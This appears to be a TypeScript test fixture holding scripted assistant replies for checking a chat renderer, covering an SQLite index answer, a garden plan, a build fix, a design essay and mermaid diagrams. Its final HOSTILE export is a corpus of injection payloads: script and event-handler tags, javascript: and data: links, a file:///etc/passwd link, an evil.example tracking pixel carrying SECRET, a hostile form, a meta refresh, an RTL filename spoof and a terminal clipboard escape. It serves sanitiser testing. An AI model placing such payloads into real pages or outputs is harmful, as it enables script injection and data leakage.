/** What the scripted model says. */

export const SHOWCASE = `The short answer: **use a B-tree index** on \`(session_id, seq)\`. It keeps the rows of one session together, so a page of history is a single range scan.

## What changes

1. Reads of one session touch about 12 pages instead of 400.
2. Inserts stay at the right edge of the tree, since \`seq\` only grows.
3. The old index on \`created_at\` can go; nothing uses it any more.

\`\`\`sql
CREATE INDEX events_by_session
    ON events (session_id, seq);

EXPLAIN QUERY PLAN
SELECT body FROM events
WHERE session_id = ?1 AND seq > ?2
ORDER BY seq LIMIT 200;  -- SEARCH events USING INDEX
\`\`\`

The numbers from this machine, each the median of 50 runs:

| Query | Before | After | Rows |
|:--|--:|--:|--:|
| Newest page | 41.8 ms | 0.6 ms | 200 |
| Whole session | 212 ms | 38 ms | 5,000 |
| Search, two words | 17.2 ms | 17.4 ms | 40 |

> A covering index would save one more lookup a row, but it doubles the size of the file. I would not do that now.

The cost of a lookup grows as $O(\\log_b n)$ with a fan-out of $b \\approx 250$:

$$
h = \\left\\lceil \\log_{250} n \\right\\rceil, \\qquad n = 10^6 \\;\\Rightarrow\\; h = 3
$$

- [x] Measured before and after
- [x] Checked the plan with \`EXPLAIN\`
- [ ] Drop the old index in the next migration

More about how SQLite chooses an index is in [the query planner's page](https://www.sqlite.org/queryplanner.html).`;

export const GARDEN = `Three beds, with the tall plants to the north so that nothing stands in the shade:

- **North bed:** beans on poles, with a row of sweet peas between them.
- **Middle bed:** tomatoes and basil. They want the same water.
- **South bed:** lettuce, radishes, spring onions. These can be sown again every three weeks.

Plant the beans in the second week of May, when the nights stay above 8 °C. Until then the north bed is free for spinach, which is harvested by the time the beans need the room.`;

export const BUILD_FIXED = `The build works again. \`Settings::overlaid\` still took the old two arguments in one place; I changed the call in \`src/turn/begin.rs\` and the tests pass.

- **Cause:** commit \`9ceca03\` gave the function a third argument for the time limit.
- **Change:** one line, shown above.
- **Checked:** \`cargo test -p jamey-engine\`, 214 tests, all passed.`;

export const LONG = `A resident process earns its place only if nobody notices it. That sounds obvious, and yet it decides almost every question of design, so it is worth taking one step at a time.

### Memory
The process holds what it is asked for, and nothing else. Sessions live in the database; in memory is only what is open in some window, and that is let go when the window closes. A cache must earn its bytes by a measurement, not by a feeling.

### Waking up
A timer that fires four times a second seems harmless. On a laptop it keeps a core from its deepest sleep, and the fan turns. So there is **no polling**: everything waits on a socket, a pipe or a file watch, and the one periodic task runs twice a minute.

\`\`\`rust
loop {
    tokio::select! {
        () = stop.cancelled() => break,
        Some(change) = changes.recv() => live.read_again(change).await,
        () = tick.tick() => monitor.look().await,
    }
}
\`\`\`

### Ending
It must be possible to kill it at any instant. What was accepted is on the disk before it is acknowledged, so the next start finds every message, closes what was open, and says so. No command is run twice: the mark that it *may* have run is written before its process exists.

### Telling the truth
When something is cut, retried or guessed, the person is told. A status page that is green because nobody looked is worse than none.`;

export const DIAGRAMS = `How a turn goes:

\`\`\`mermaid
flowchart TD
  A[Message] --> B{Fits the window?}
  B -->|yes| C[Ask the model]
  B -->|no| D[Summarise what came before]
  D --> C
  subgraph loop [Until it has its answer]
    C --> E{Calls a tool?}
    E -->|yes| F([Ask for permission]) --> G[(Run it)]
    G -.-> C
  end
  E -->|no| H((End))
\`\`\`

And who talks to whom:

\`\`\`mermaid
sequenceDiagram
  participant W as Window
  participant R as Runtime
  participant M as Model
  W->>R: start_turn
  R->>M: request
  loop every token
    M-->>R: a piece
    R-->>W: itemDelta
  end
  Note over W,R: The event is durable
  R->>R: writes it down
  R-xW: connection lost
\`\`\`

This kind is not drawn:

\`\`\`mermaid
pie title Pets
  "Dogs" : 386
\`\`\``;

export const HOSTILE = `Some text <img src=x onerror="window.pwned=1"> and <script>window.pwned=2</script> more.

<iframe src="https://evil.example/frame"></iframe>

<svg onload="window.pwned=3"><image href="https://evil.example/svg.png"/></svg>

<math><mtext><img src=x onerror="window.pwned=4"></mtext></math>

<style>body{background:url(https://evil.example/css.png)}</style>

[click me](javascript:window.pwned=5) [data](data:text/html,<script>window.pwned=6</script>) [vb](vbscript:x) [file](file:///etc/passwd) [ok](https://example.com/page?q=1)

![tracker](https://evil.example/pixel.png?d=SECRET) ![data](data:image/svg+xml;base64,PHN2Zy8+)

[ref]: javascript:window.pwned=7
[a reference][ref] and ![an image reference][img]

[img]: https://evil.example/ref.png

<https://example.com/auto> and https://example.com/bare and www.example.com

$$\\href{javascript:window.pwned=8}{x} \\includegraphics{https://evil.example/tex.png} \\htmlData{x=1}{y} \\url{https://evil.example}$$

\`\`\`mermaid
graph TD; A["<img src=x onerror=window.pwned=9>"] --> B; click A "javascript:window.pwned=10"
\`\`\`

\`\`\`html
<script>window.pwned=11</script><img src="https://evil.example/code.png">
\`\`\`

A right-to-left override: \u202egnp.exe and an escape \u001b[2J\u001b]52;c;ZXZpbA==\u0007 end.

<form action="https://evil.example"><input name=a><button>go</button></form>
<a href="javascript:window.pwned=12" onclick="window.pwned=13">raw link</a>
<meta http-equiv="refresh" content="0;url=https://evil.example/meta">`;
